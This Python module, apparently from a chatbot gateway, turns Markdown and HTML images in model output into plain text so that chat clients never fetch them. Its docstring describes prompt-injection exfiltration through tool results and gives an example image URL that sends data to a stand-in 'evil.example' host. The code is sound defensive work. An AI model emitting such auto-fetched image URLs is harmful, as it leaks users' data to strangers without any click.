"""Model text made inert before a platform draws it: the platform-neutral rules.

What the model writes can repeat what a tool result said, and a tool result
can be written by anyone who can name a server. A remote image is the
dangerous part everywhere: the chat client fetches its URL by itself, so
``![x](http://evil.example/c?d=ALL_IPS)`` would send whatever the model put in
the URL to a stranger without anyone clicking. Markdown images (inline and
reference-style) and HTML tags that load a URL become plain text,
``alt (image: url)``, which the client shows and never fetches.

Code is left as written: an image inside a code span or block is not drawn as
one. :func:`sub_outside_code` lets each platform apply its own rules (Slack
mentions, DingTalk's @所有人) the same way, with a separate, look-alike
replacement for code where a platform still parses it. :func:`stable_cut`
keeps an append-only stream from sending half of a construct that would be
rewritten once complete.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Callable

from botgateway.strings import t

__all__ = ["code_ranges", "inert_images", "stable_cut", "sub_outside_code"]

_FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.MULTILINE)
_BACKTICKS = re.compile(r"`+")

_ALT = r"(?P<alt>(?:[^\[\]\\\n]|\\.|\[(?:[^\[\]\\\n]|\\.)*\])*)"
"""Image alt text: brackets may nest once (``![a [b] c](u)``), escapes are kept."""
_DEST = r"(?P<url><[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))+)"
"""A link destination: ``<...>`` or a run without spaces whose parentheses balance once."""
_INLINE_IMAGE = re.compile(r"!\[" + _ALT + r"\]\(\s*" + _DEST + r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)")
_REFERENCE_IMAGE = re.compile(r"!\[" + _ALT + r"\](?:\[(?P<ref>[^\[\]\n]*)\])?")
_DEFINITION = re.compile(r"^ {0,3}\[(?P<label>[^\[\]\n]+)\]:[ \t]*(?P<url><[^<>\n]*>|\S+)", re.MULTILINE)
_HTML_MEDIA = re.compile(
    r"<\s*(?:img|image|picture|source|video|audio|iframe|frame|embed|object|input|svg|use|link|track)\b[^>]*(?:>|\Z)",
    re.IGNORECASE,
)
_HTML_URL = re.compile(r"\b(?:src|srcset|href|xlink:href|poster|data|background)\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_HTML_ALT = re.compile(r"\b(?:alt|title)\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_BANG_BRACKET = re.compile(r"!\[")
_MAX_PASSES = 8
"""Images nested in alt text unwrap one level per pass; past this, what is left is broken by force."""

_UNCLOSED_TAIL = re.compile(r"(?:<[^<>\n]*|&[#a-zA-Z0-9]{0,8}|!\[[^\n]*|@[\w^.-]*|!)\Z")


def code_ranges(text: str) -> list[tuple[int, int]]:
    """``(start, end)`` of every code block and code span in ``text``, in order; an unclosed fence runs to the end."""
    ranges: list[tuple[int, int]] = []
    position = 0
    while position < len(text):
        fence = _FENCE_LINE.search(text, position)
        limit = fence.start() if fence else len(text)
        ranges.extend(_inline_code(text, position, limit))
        if fence is None:
            break
        marker = fence.group(1)
        closing = re.compile(r"^ {0,3}" + re.escape(marker[0]) + "{" + str(len(marker)) + r",}[ \t]*$", re.MULTILINE)
        line_end = text.find("\n", fence.end())
        close = closing.search(text, line_end + 1) if line_end != -1 else None
        end = close.end() if close else len(text)
        ranges.append((fence.start(), end))
        position = end
    return ranges


def _inline_code(text: str, start: int, end: int) -> list[tuple[int, int]]:
    """Code spans between ``start`` and ``end``: a backtick run closed by the next run of the same length."""
    spans: list[tuple[int, int]] = []
    runs = list(_BACKTICKS.finditer(text, start, end))
    i = 0
    while i < len(runs):
        opening = runs[i]
        closing = next((j for j in range(i + 1, len(runs)) if len(runs[j].group()) == len(opening.group())), None)
        if closing is None:
            i += 1  # an unmatched run is literal text (CommonMark)
            continue
        spans.append((opening.start(), runs[closing].end()))
        i = closing + 1
    return spans


def _inside(ranges: list[tuple[int, int]], position: int) -> bool:
    index = bisect_right([start for start, _ in ranges], position) - 1
    return index >= 0 and ranges[index][0] <= position < ranges[index][1]


def sub_outside_code(
    pattern: re.Pattern[str],
    text: str,
    prose: Callable[[re.Match[str]], str],
    code: Callable[[re.Match[str]], str] | None = None,
) -> str:
    """``pattern.sub`` with ``prose`` for matches that start outside code, ``code`` (default: unchanged) inside it."""
    ranges = code_ranges(text) if "`" in text or "~~~" in text else []

    def replace(match: re.Match[str]) -> str:
        if ranges and _inside(ranges, match.start()):
            return code(match) if code is not None else match.group(0)
        return prose(match)

    return pattern.sub(replace, text)


def _as_text(alt: str, url: str, locale: str) -> str:
    """What an image becomes: its alt text and its address, as words the client will not fetch."""
    alt = " ".join(alt.replace("\\", "").split())
    url = url.strip().removeprefix("<").removesuffix(">").strip()
    if not url:
        return alt
    return t(locale, "image_as_text", alt=alt, url=url).strip()


def _definitions(text: str) -> dict[str, str]:
    """Reference definitions (``[label]: url``) by their normalized label."""
    return {" ".join(m.group("label").lower().split()): m.group("url") for m in _DEFINITION.finditer(text)}


def _html_value(pattern: re.Pattern[str], tag: str) -> str:
    match = pattern.search(tag)
    return next((group for group in match.groups() if group is not None), "") if match else ""


def _reference_images(text: str, locale: str) -> str:
    definitions = _definitions(text)

    def reference(m: re.Match[str]) -> str:
        label = m.group("ref") or m.group("alt")
        return _as_text(m.group("alt"), definitions.get(" ".join(label.lower().split()), ""), locale)

    return sub_outside_code(_REFERENCE_IMAGE, text, reference)


def _html_media(text: str, locale: str) -> str:
    return sub_outside_code(
        _HTML_MEDIA, text, lambda m: _as_text(_html_value(_HTML_ALT, m.group()), _html_value(_HTML_URL, m.group()), locale)
    )


def _one_pass(text: str, locale: str) -> str:
    """One kind of image rewritten; inline first, since ``![a](u)`` read as a reference would lose its URL."""
    changed = sub_outside_code(_INLINE_IMAGE, text, lambda m: _as_text(m.group("alt"), m.group("url"), locale))
    if changed == text and "![" in text:
        changed = _reference_images(text, locale)
    if changed == text:
        changed = _html_media(text, locale)
    return changed


def inert_images(text: str, locale: str) -> str:
    """``text`` with every image and media tag outside code turned into ``alt (image: url)`` text."""
    if "![" not in text and "<" not in text:
        return text
    for _ in range(_MAX_PASSES):
        changed = _one_pass(text, locale)
        if changed == text:
            break
        text = changed
    # What the patterns could not parse (brackets nested deeper) must still never draw as an image.
    text = sub_outside_code(_BANG_BRACKET, text, lambda m: "!\u200b[")
    return sub_outside_code(_HTML_MEDIA, text, lambda m: "&lt;" + m.group()[1:])


def stable_cut(text: str) -> int:
    """How much of a still-growing ``text`` can be streamed: all but a trailing construct that is not closed yet.

    An image, a ``<…>`` control sequence, an entity or an ``@mention`` is
    rewritten once complete; sending its first half would commit the stream
    to text the rewrite no longer starts with.
    """
    match = _UNCLOSED_TAIL.search(text)
    return match.start() if match else len(text)
